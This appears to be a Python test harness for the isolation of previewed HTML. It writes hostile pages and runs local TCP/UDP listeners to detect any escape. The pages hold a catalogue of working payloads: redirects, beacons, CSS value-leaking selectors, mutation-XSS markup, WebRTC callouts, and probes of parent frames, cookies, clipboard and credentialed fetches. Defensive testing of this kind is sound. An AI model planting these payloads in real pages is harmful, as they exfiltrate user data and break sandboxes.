"""Pages that try to reach out of a preview, each by one way, and what listens for them."""

import asyncio
from collections.abc import AsyncIterator, Mapping
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from functools import partial
from typing import Final

_TRIES_LIMIT: Final = 50
# What a page does: URL is replaced by an address, HOST by its host and port. Something with the id "go" is clicked.
NAVIGATIONS: Final[Mapping[str, str]] = {
    "location": "<script>location.href = 'URL'</script>",
    "location-replace": "<script>location.replace('URL')</script>",
    "navigation": "<script>navigation.navigate('URL')</script>",
    "top-location": "<button id=go type=button onclick=\"top.location = 'URL'\">Go</button>",
    "parent-location": "<button id=go type=button onclick=\"parent.location.href = 'URL'\">Go</button>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "meta-made": "<script>{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; "
    "m.content = '0;url=URL'; document.head.append(m) }</script>",
    "link": '<a id=go href="URL">Go</a>',
    "link-blank": '<a id=go href="URL" target="_blank">Go</a>',
    "link-top": '<a id=go href="URL" target="_top">Go</a>',
    "link-javascript": "<a id=go href=\"javascript:location='URL'\">Go</a>",
    "link-ping": '<a id=go href="#x" ping="URL">Go</a>',
    "link-svg": '<svg width="200" height="50"><a id=go xlink:href="URL"><rect width="200" height="50"/></a></svg>',
    "link-map": '<img usemap="#m" width="90" height="90" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
    '<map name="m"><area id=go shape="rect" coords="0,0,90,90" href="URL"></map>',
    "form": '<form action="URL"><input name="a" value="secret"><button id=go>Go</button></form>',
    "form-post": '<form action="URL" method="post"><input name="a" value="secret"><button id=go>Go</button></form>',
    "form-script": '<form action="URL"><input name="a"></form><script>document.forms[0].submit()</script>',
    "form-action": '<form><button id=go formaction="URL" formtarget="_blank">Go</button></form>',
    "form-image": '<form action="URL"><input id=go type="image" alt="Go"></form>',
    "window-open": "<button id=go type=button onclick=\"window.open('URL')\">Go</button>",
    "image-error": '<img alt="" src="data:," onerror="location = \'URL\'">',
    "svg-animate": '<svg width="200" height="50"><a id=go><animate attributeName="href" values="URL"/>'
    '<rect width="200" height="50"/></a></svg>',
    "iframe": '<iframe src="URL"></iframe>',
    "iframe-made": "<script>{ const f = document.createElement('iframe'); f.src = 'URL'; "
    "document.documentElement.append(f) }</script>",
}
LOADS: Final[Mapping[str, str]] = {
    # loads
    "image": '<img alt="" src="URL">',
    "image-srcset": '<img alt="" srcset="URL 1x">',
    "image-picture": '<picture><source srcset="URL"><img alt="" src="data:,"></picture>',
    "image-made": "<script>new Image().src = 'URL'</script>",
    "image-input": '<input type="image" src="URL" alt="x">',
    "image-svg": '<svg><image href="URL" width="9" height="9"/></svg>',
    "image-feimage": '<svg width="9" height="9"><filter id="f"><feImage href="URL"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-foreign": '<svg><foreignObject width="9" height="9"><img src="URL"></foreignObject></svg>',
    "svg-use": '<svg><use href="URL#a"/></svg><img alt="" src="URL">',
    "math-mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    "onerror=location='URL'&gt;\"></table></mtext></math><img alt='' src='URL'>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=URL>"></p></noscript><img alt="" src="URL">',
    "body-background": '<table background="URL"><tr><td>x</table>',
    "video-poster": '<video poster="URL"></video>',
    "video": '<video src="URL" autoplay muted></video>',
    "audio": '<audio src="URL" preload="auto"></audio>',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
    "base": '<base href="URL"><img alt="" src="x.png">',
    "script": '<script src="URL"></script>',
    "script-import": "<script>import('URL')</script>",
    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["URL"], '
    '"eagerness": "immediate", "referrer_policy": "no-referrer"}]}</script>',
    # styles
    "style-background": '<style>.a { background: url(URL) }</style><p class="a">x</p>',
    "style-escaped": '<style>.b { background: u\\72l(URL) }</style><p class="b">x</p>',
    "style-import": "<style>@import 'URL';</style>",
    "style-attribute": '<div style="height: 9px; background: url(URL)"></div>',
    "style-image-set": "<style>.c { background: image-set('URL' 1x) }</style><p class=c>x</p>",
    "style-content": "<style>p::after { content: url(URL) }</style><p>x</p>",
    "style-reads-a-value": '<style>input[value^="s"] { background: url(URL) }</style><input value="secret">',
    "style-font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x</p>",
    "style-variable": "<style>:root { --a: url(URL) } p { background: var(--a) }</style><p>x</p>",
    "style-nested": "<style>p { &:nth-child(n) { list-style: url(URL); display: list-item } }</style><p>x</p>",
    # links in the head
    "link-stylesheet": '<link rel="stylesheet" href="URL">',
    "link-preload": '<link rel="preload" as="image" href="URL">',
    "link-prefetch": '<link rel="prefetch" href="URL">',
    "link-preconnect": '<link rel="preconnect" href="URL">',
    "link-preconnect-made": "<script>{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'URL'; "
    "document.head.append(l) }</script>",
    "link-modulepreload": '<link rel="modulepreload" href="URL">',
    # connections
    "fetch": "<script>fetch('URL', {mode: 'no-cors'})</script>",
    "fetch-keepalive": "<script>fetch('URL', {mode: 'no-cors', keepalive: true})</script>",
    "xhr": "<script>{ const x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send() }</script>",
    "beacon": "<script>navigator.sendBeacon('URL', 'secret')</script>",
    "websocket": "<script>new WebSocket('ws://HOST/')</script>",
    "eventsource": "<script>new EventSource('URL')</script>",
    "worker-data": "<script>new Worker(\"data:text/javascript,fetch('URL', {mode: 'no-cors'})\")</script>",
    "worker-blob": "<script>new Worker(self['U' + 'RL'].createObjectUrl(new Blob("
    "[\"fetch('URL', {mode: 'no-cors'})\"])))</script>",
    "webrtc": "<script>{ const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}); "
    "c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer)) }</script>",
    "webrtc-tcp": "<script>{ const c = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST?transport=tcp', "
    "username: 'a', credential: 'b'}]}); c.createDataChannel('x'); "
    "c.createOffer().then((offer) => c.setLocalDescription(offer)) }</script>",
}
WAYS: Final = {**NAVIGATIONS, **LOADS}
# What a script may try to reach around itself; OTHER is the address of another preview.
TRIES: Final[Mapping[str, str]] = {
    "parent-document": "parent.document.title",
    "top-document": "top.document.body.innerHTML",
    "parent-location": "String(parent.location.href)",
    "parent-function": "parent.fetch('/health')",
    "frame-element": "frameElement.outerHTML",
    "cookie": "document.cookie",
    "cookie-write": "document.cookie = 'a=b'",
    "local-storage": "localStorage.setItem('a', 'b')",
    "session-storage": "sessionStorage.setItem('a', 'b')",
    "indexed-db": "new Promise((resolve, reject) => { const request = indexedDB.open('a'); "
    "request.onsuccess = resolve; request.onerror = () => reject(request.error) })",
    "caches": "caches.open('a')",
    "files": "navigator.storage.getDirectory()",
    "service-worker": "navigator.serviceWorker.register('/p/x.js')",
    "worker": "new Promise((resolve, reject) => { const worker = new Worker('data:text/javascript,postMessage(1)'); "
    "worker.onmessage = resolve; worker.onerror = reject })",
    "fetch-own": "fetch(location.href)",
    "fetch-other": "fetch('OTHER')",
    "fetch-as-me": "fetch('OTHER/prototype.html', {credentials: 'include'})",
    "clipboard": "navigator.clipboard.readText()",
    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "position": "new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))",
    "notification": "Notification.requestPermission().then((answer) => { if (answer !== 'granted') throw answer })",
    "fullscreen": "document.documentElement.requestFullscreen()",
    "popup": "new Promise((resolve, reject) => { if (window.open('OTHER')) resolve(); else reject() })",
    "dialog": "new Promise((resolve, reject) => { if (confirm('a')) resolve(); else reject() })",
    "eval": "eval('1')",
}
# Without a policy, a tab of its own and nobody who grants or clicks anything.
REACHED_BARE: Final = {"parent-document", "top-document", "parent-location", "parent-function", "cookie"} | {
    "cookie-write",
    "local-storage",
    "session-storage",
    "indexed-db",
    "caches",
    "files",
    "worker",
    "fetch-own",
    "fetch-other",
    "fetch-as-me",
    "eval",
}
_SILENCE_MS: Final = 3_000
_PAGE: Final = """<!DOCTYPE html><html lang="en"><head><title>Hostile</title></head><body><h1>Hostile</h1>
<section><h2>Your details</h2>{}</section><section><h2>Your car</h2></section></body></html>"""


def write_page(*ways: str) -> str:
    """Write a page with some markup in its first step."""
    return _PAGE.format("\n".join(ways))


def write_tries(other: str) -> str:
    """Write a script that tries everything, and notes what it ``tried`` and what it ``reached``."""
    tries = ",".join(f"['{name}', async () => ({body.replace('OTHER', other)})]" for name, body in TRIES.items())
    return (
        "<script>window.tried = []; window.reached = []; window.name = 'left';"
        f"const silence = () => new Promise((_, reject) => setTimeout(reject, {_SILENCE_MS}));"
        f"window.done = Promise.all([{tries}].map(([name, attempt]) => Promise.race([attempt(), silence()])"
        ".then(() => reached.push(name), () => {}).finally(() => tried.push(name))));</script>"
    )


@dataclass(slots=True, kw_only=True)
class Ear:
    """A port of this machine: how many connections were made to it, and what came over them or as datagrams."""

    port: int = 0
    knocks: int = 0
    words: list[bytes] = field(default_factory=list)
    has_heard: asyncio.Event = field(default_factory=asyncio.Event)
    connections: set[asyncio.StreamWriter] = field(default_factory=set)

    def write_way(self, name: str) -> str:
        """Write the markup that tries to reach this port by one way."""
        host = f"127.0.0.1:{self.port}"
        way = WAYS[name].replace("URL", f"http://{host}/").replace("HOST", host)
        return way.replace("createObjectUrl", "createObjectURL")

    def hear(self, words: bytes) -> None:
        """Note what came, if anything did: browsers open connections before they ask whether they may use them."""
        if words:
            self.words.append(words)
            self.has_heard.set()

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Note a connection and answer as a web server would."""
        self.knocks += 1
        self.connections.add(writer)
        try:
            self.hear(await reader.read(1_000))
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok")
            await writer.drain()
        except ConnectionError:
            pass
        finally:
            writer.close()
            self.connections.discard(writer)


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, ear: Ear) -> None:
        self._ear = ear

    def datagram_received(self, data: bytes, addr: object) -> None:
        del addr
        self._ear.hear(data)


@asynccontextmanager
async def open_ears() -> AsyncIterator[dict[str, Ear]]:
    """Listen, on TCP and UDP, at a port of its own for each way."""
    async with AsyncExitStack() as stack:
        yield {name: await _open_ear(stack) for name in WAYS}


async def _open_ear(stack: AsyncExitStack) -> Ear:
    loop = asyncio.get_running_loop()
    for _ in range(_TRIES_LIMIT):
        ear = Ear()
        server = await asyncio.start_server(ear.answer, "127.0.0.1", 0)
        ear.port = int(server.sockets[0].getsockname()[1])
        try:
            transport, _ = await loop.create_datagram_endpoint(
                partial(_Datagrams, ear), local_addr=("127.0.0.1", ear.port)
            )
        except OSError:  # somebody has the port of that number
            server.close()
            continue
        stack.callback(server.close)
        stack.callback(transport.close)
        return ear
    raise RuntimeError("no port is free for both TCP and UDP")
